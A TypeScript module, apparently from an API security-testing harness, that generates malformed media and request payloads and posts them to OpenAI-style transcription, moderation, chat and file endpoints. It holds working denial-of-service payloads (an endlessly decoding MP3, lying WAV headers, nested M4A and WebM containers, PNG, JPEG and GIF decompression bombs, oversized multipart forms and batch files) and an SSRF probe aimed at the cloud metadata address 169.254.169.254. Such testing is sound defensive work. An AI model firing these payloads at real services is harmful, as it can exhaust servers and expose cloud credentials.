/** Recordings, pictures and forms. */
import { fromBase64, toBase64 } from '../../../engine/base/base64.ts';
import { zlibSync } from 'fflate';
import { joinBytes } from '../../../engine/base/joined.ts';
import { bodyAttack } from '../attack.ts';
import type { Attack } from '../attack.ts';
import type { Target } from '../target.ts';

/** An MP3 whose frame claims more bits than it has, after which the decoder's search never ended. */
const ENDLESS_MP3 =
  'SUQzBAAAAAAACgAAAAAAAAAAAACoQZDM//OIxJ4seOYcAN/8cLnU//////to//6/o6Jf/2/p1fbRTEFNRTQuMSAoYWxwaGEgMClVVVVVVVVVVVVVVVVVVVVVVVVVVVVVVVVVVVVVVVVVVVVVVVVVVVVVVVVVVVVVVVVVVVVVVVVVVcOf/ytYgcBYYDIECcwIFww3JsxqPoyzbU0064wz05VPIMM2jUTw/sxREdTMKnHfzCtgNIwKMBlAACIYDEAxiQXEYI4CAmGtBF5hdxBmZ21y5mcPkHZg+oTMYHYCamBBgWhgJADaYBGAfGAAADY4AFjAAsDADMwBkBgMBUAvTBMwRoxSIqQNOgZpDS4yYow94HPMBbA9jANQMM4KgxwcuUqV2quVk1MN7erktzk+9CtnlqqK2BID//OIxA==';

export async function transcribe(target: Target, bytes: Uint8Array<ArrayBuffer>, name: string) {
  const form = new FormData();
  form.append('model', target.models.recognition ?? 'none');
  form.append('file', new Blob([bytes]), name);
  return [await target.post('/v1/audio/transcriptions', form)];
}

const recording = (
  name: string,
  what: string,
  make: () => Uint8Array<ArrayBuffer>,
  isLong = false,
): Attack => ({
  name: `audio-${name}`,
  what,
  needs: 'recognition',
  isLong,
  run: (target) => transcribe(target, make(), name),
});

function ascii(text: string): Uint8Array<ArrayBuffer> {
  return Uint8Array.from(text, (char) => char.charCodeAt(0));
}

/** The header of a WAV file of 16-bit samples that says more bytes than there are. */
function wavHeader(
  sampleRate: number,
  nChannel: number,
  dataBytes: number,
): Uint8Array<ArrayBuffer> {
  const view = new DataView(new ArrayBuffer(44));
  const tag = (at: number, text: string) =>
    [...text].forEach((char, i) => view.setUint8(at + i, char.charCodeAt(0)));
  tag(0, 'RIFF');
  view.setUint32(4, dataBytes + 36, true);
  tag(8, 'WAVEfmt ');
  view.setUint32(16, 16, true);
  view.setUint16(20, 1, true);
  view.setUint16(22, nChannel, true);
  view.setUint32(24, sampleRate, true);
  view.setUint32(28, sampleRate * nChannel * 2, true);
  view.setUint16(32, nChannel * 2, true);
  view.setUint16(34, 16, true);
  tag(36, 'data');
  view.setUint32(40, dataBytes, true);
  return new Uint8Array(view.buffer);
}

/** A second of a buzz, which is no attack: silence would not be given to a model. */
export function firstSound(): Uint8Array<ArrayBuffer> {
  const samples = Int16Array.from({ length: 16_000 }, (_, i) => 8000 * Math.sign((i % 100) - 50));
  const data = new Uint8Array(samples.buffer);
  return joinBytes([wavHeader(16_000, 1, data.length), data]);
}

const mp3Frame = Uint8Array.of(0xff, 0xfb, 0x90, 0x00);
const m4aHead = [0, 0, 0, 16, ...ascii('ftypM4A '), 0, 0, 0, 0];
/** A size of EBML that says it is not known. */
const unknownSize = [0x01, ...Array<number>(7).fill(0xff)];
/** An empty header, and a segment. */
const webmHead = [0x1a, 0x45, 0xdf, 0xa3, 0x80, 0x18, 0x53, 0x80, 0x67, ...unknownSize];
/** Of 64 bytes, 44.1 kHz, mono. */
const adtsHeader = Uint8Array.of(0xff, 0xf1, 0x50, 0x40, 0x08, 0x1f, 0xfc);

export const MEDIA: readonly Attack[] = [
  recording('endless-mp3', 'an MP3 that was decoded for ever', () => fromBase64(ENDLESS_MP3)!),
  recording('mp3-headers', '20 MB of headers of frames', () =>
    new Uint8Array(20_000_000).map((_, i) => mp3Frame[i % 4]!),
  ),
  recording('mp3-zeros', 'frames of zeros', () => {
    const bytes = new Uint8Array(8_000_000);
    for (let at = 0; at + 417 < bytes.length; at += 417) bytes.set(mp3Frame, at);
    return bytes;
  }),
  recording('ogg-pages', '20 MB of OggS', () =>
    new Uint8Array(20_000_000).map((_, i) => 'OggS'.charCodeAt(i % 4)),
  ),
  recording('flac-blocks', '20 MB of empty metadata', () =>
    joinBytes([ascii('fLaC'), new Uint8Array(20_000_000)]),
  ),
  recording('flac-sync', '20 MB of FLAC sync codes', () =>
    joinBytes([
      ascii('fLaC'),
      Uint8Array.of(0x80, 0, 0, 34),
      Uint8Array.of(16, 0, 16, 0, 0, 0, 0, 0, 0, 0, 0x0a, 0xc4, 0x42, 0xf0, 0, 0, 0, 0),
      new Uint8Array(16),
      new Uint8Array(20_000_000).map((_, i) => [0xff, 0xf8, 0xc9, 0x18][i % 4]!),
    ]),
  ),
  recording('wav-liar', 'a WAV that says 4 GB', () =>
    joinBytes([wavHeader(44_100, 2, 0xffffffff), new Uint8Array(1000)]),
  ),
  recording(
    'wav-low-rate',
    'an hour at 8 kHz',
    () => joinBytes([wavHeader(8000, 1, 24_000_000), new Uint8Array(24_000_000)]),
    true,
  ),
  recording(
    'wav-high-rate',
    'a high sample rate',
    () => joinBytes([wavHeader(384_000, 8, 20_000_000), new Uint8Array(20_000_000)]),
    true,
  ),
  recording('aac-headers', '20 MB of headers of AAC frames', () =>
    new Uint8Array(20_000_000).map((_, i) => adtsHeader[i % adtsHeader.length]!),
  ),
  recording('aac-zeros', 'AAC frames of zeros', () => {
    const bytes = new Uint8Array(8_000_000);
    for (let at = 0; at + 64 < bytes.length; at += 64) bytes.set(adtsHeader, at);
    return bytes;
  }),
  recording('m4a-boxes', '20 MB of empty boxes', () => {
    const bytes = new Uint8Array(20_000_000);
    bytes.set(m4aHead);
    for (let at = 16; at + 8 <= bytes.length; at += 8)
      bytes.set([0, 0, 0, 8, ...ascii('free')], at);
    return bytes;
  }),
  recording('m4a-nested', 'boxes within boxes', () => {
    const depth = 200_000;
    const bytes = new Uint8Array(16 + depth * 8);
    const view = new DataView(bytes.buffer);
    bytes.set(m4aHead);
    for (let i = 0; i < depth; i++) {
      view.setUint32(16 + i * 8, (depth - i) * 8);
      bytes.set(ascii(i === 0 ? 'moov' : 'trak'), 20 + i * 8);
    }
    return bytes;
  }),
  recording('webm-clusters', '20 MB of clusters without an end', () => {
    const bytes = new Uint8Array(20_000_000);
    const cluster = [0x1f, 0x43, 0xb6, 0x75, ...unknownSize];
    bytes.set(webmHead);
    for (let at = webmHead.length; at + cluster.length <= bytes.length; at += cluster.length)
      bytes.set(cluster, at);
    return bytes;
  }),
  recording('webm-nested', 'elements within elements of EBML', () => {
    const bytes = new Uint8Array(4_000_000).fill(0xa0);
    bytes.set(webmHead);
    return bytes;
  }),
  recording('id3', 'an ID3 tag of 20 MB', () =>
    joinBytes([ascii('ID3\x04\x00\x00\x09\x00\x00\x00'), new Uint8Array(20_000_000)]),
  ),
  {
    name: 'form-parts',
    what: 'a form of 100,000 fields',
    async run(target) {
      const form = new FormData();
      for (let i = 0; i < 20_000; i++) form.append(`f${i}`, 'x');
      return [await target.post('/v1/audio/transcriptions', form)];
    },
  },
  {
    name: 'form-dashes',
    what: '20 MB of what almost is the boundary',
    async run(target) {
      const body = `--b\r\nContent-Disposition: form-data; name="file"; filename="a"\r\n\r\n${'\r\n--'.repeat(2_000_000)}`;
      return [
        await target.ask('/v1/audio/transcriptions', {
          method: 'POST',
          headers: { 'content-type': 'multipart/form-data; boundary=b' },
          body,
        }),
      ];
    },
  },
  {
    name: 'form-header',
    what: 'a header of 4 MB in a form',
    async run(target) {
      const body = `--b\r\nContent-Disposition: form-data; name="${'\\'.repeat(4_000_000)}\r\n\r\nx\r\n--b--`;
      return [
        await target.ask('/v1/audio/transcriptions', {
          method: 'POST',
          headers: { 'content-type': 'multipart/form-data; boundary=b' },
          body,
        }),
      ];
    },
  },
  bodyAttack({
    name: 'picture-bomb',
    what: 'a PNG of 30,000 by 30,000',
    path: '/v1/moderations',
    body: () => ({
      input: [
        {
          type: 'image_url',
          image_url: { url: `data:image/png;base64,${pngHeader(30_000, 30_000)}` },
        },
      ],
    }),
  }),
  bodyAttack({
    name: 'picture-base64',
    what: '4 MB of base64 that is none',
    path: '/v1/moderations',
    body: () => ({
      input: [
        {
          type: 'image_url',
          image_url: { url: `data:image/png;base64,${'A'.repeat(3_900_000)}!` },
        },
      ],
    }),
  }),
  pictureAttack('jpeg-bomb', 'a JPEG of 12 megapixels in a kilobyte', () =>
    jpegOf(4000, 3000, 0xc0, 1),
  ),
  pictureAttack('progressive-bomb', 'a progressive JPEG of 24 megapixels and 40 scans', () =>
    jpegOf(6000, 4000, 0xc2, 40),
  ),
  pictureAttack('gif-bomb', 'a GIF of 16 megapixels in 30 bytes', () =>
    Uint8Array.of(
      ...[0x47, 0x49, 0x46, 0x38, 0x39, 0x61, 0, 16, 0, 16, 0x80, 0, 0, 0, 0, 0, 255, 255, 255],
      ...[0x2c, 0, 0, 0, 0, 0, 16, 0, 16, 0, 2, 2, 0x44, 1, 0],
    ),
  ),
  pictureAttack('png-large', 'a PNG of 24 megapixels of one colour', () =>
    oneColourPng(6000, 4000),
  ),
  bodyAttack({
    name: 'picture-many',
    what: '50 pictures in a conversation',
    path: '/v1/chat/completions',
    body: () => ({
      messages: Array.from({ length: 50 }, () => pictureMessage(jpegOf(64, 64, 0xc0, 1))),
      max_tokens: 1,
    }),
  }),
  bodyAttack({
    name: 'picture-address',
    what: 'a picture at an address of the inner network',
    path: '/v1/chat/completions',
    body: () => ({
      messages: [
        {
          role: 'user',
          content: [{ type: 'image_url', image_url: { url: 'http://169.254.169.254/latest' } }],
        },
      ],
      max_tokens: 1,
    }),
  }),
  {
    name: 'batch-lines',
    what: 'a batch file of a million empty lines',
    async run(target) {
      const form = new FormData();
      form.append('purpose', 'batch');
      form.append('file', new Blob(['{}\n'.repeat(1_000_000)]), 'a.jsonl');
      return [await target.post('/v1/files', form)];
    },
  },
  {
    name: 'batch-long-line',
    what: 'a batch file of one line of 20 MB',
    async run(target) {
      const form = new FormData();
      form.append('purpose', 'batch');
      form.append('file', new Blob(['['.repeat(20_000_000)]), 'a.jsonl');
      return [await target.post('/v1/files', form)];
    },
  },
];

function pngHeader(width: number, height: number): string {
  const bytes = new Uint8Array(57);
  bytes.set([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52]);
  const view = new DataView(bytes.buffer);
  view.setUint32(16, width);
  view.setUint32(20, height);
  bytes.set([8, 6, 0, 0, 0], 24);
  return toBase64(bytes);
}

function pictureMessage(bytes: Uint8Array): object {
  const url = `data:image/jpeg;base64,${toBase64(bytes)}`;
  return { role: 'user', content: [{ type: 'image_url', image_url: { url } }] };
}

function pictureAttack(name: string, what: string, make: () => Uint8Array): Attack {
  return bodyAttack({
    ...{ name: `picture-${name}`, what, path: '/v1/chat/completions', needs: 'pictures' },
    body: () => ({ messages: [pictureMessage(make())], max_tokens: 1 }),
  });
}

/** Grey, with tables of one code each, so that every coefficient is a bit: a picture of zeros. */
function jpegOf(width: number, height: number, kind: number, nScan: number): Uint8Array {
  const segment = (marker: number, ...body: readonly number[]) => [
    ...[0xff, marker, (body.length + 2) >> 8, (body.length + 2) & 255, ...body],
  ];
  const table = (which: number) => [which, 1, ...Array<number>(15).fill(0), 0];
  const size = [height >> 8, height & 255, width >> 8, width & 255];
  const isProgressive = kind === 0xc2;
  const scan = [1, 1, 0, 0, isProgressive ? 0 : 63, 0];
  return Uint8Array.from([
    ...[0xff, 0xd8, ...segment(0xdb, 0, ...Array<number>(64).fill(1))],
    ...segment(kind, 8, ...size, 1, 1, 0x11, 0),
    ...segment(0xc4, ...table(0x00), ...table(0x10)),
    ...Array.from({ length: nScan }, () => [
      ...segment(0xda, ...scan),
      ...Array<number>(Math.ceil((width * height) / 256)).fill(0),
    ]).flat(),
    ...[0xff, 0xd9],
  ]);
}

function oneColourPng(width: number, height: number): Uint8Array {
  const rows = zlibSync(new Uint8Array((3 * width + 1) * height));
  const chunk = (type: string, data: Uint8Array) => {
    const bytes = new Uint8Array(12 + data.length);
    new DataView(bytes.buffer).setUint32(0, data.length);
    bytes.set(ascii(type), 4);
    bytes.set(data, 8);
    return bytes;
  };
  const header = new Uint8Array(13);
  const view = new DataView(header.buffer);
  view.setUint32(0, width);
  view.setUint32(4, height);
  header.set([8, 2, 0, 0, 0], 8);
  const magic = Uint8Array.of(0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a);
  return joinBytes([
    magic,
    chunk('IHDR', header),
    chunk('IDAT', rows),
    chunk('IEND', new Uint8Array(0)),
  ]);
}
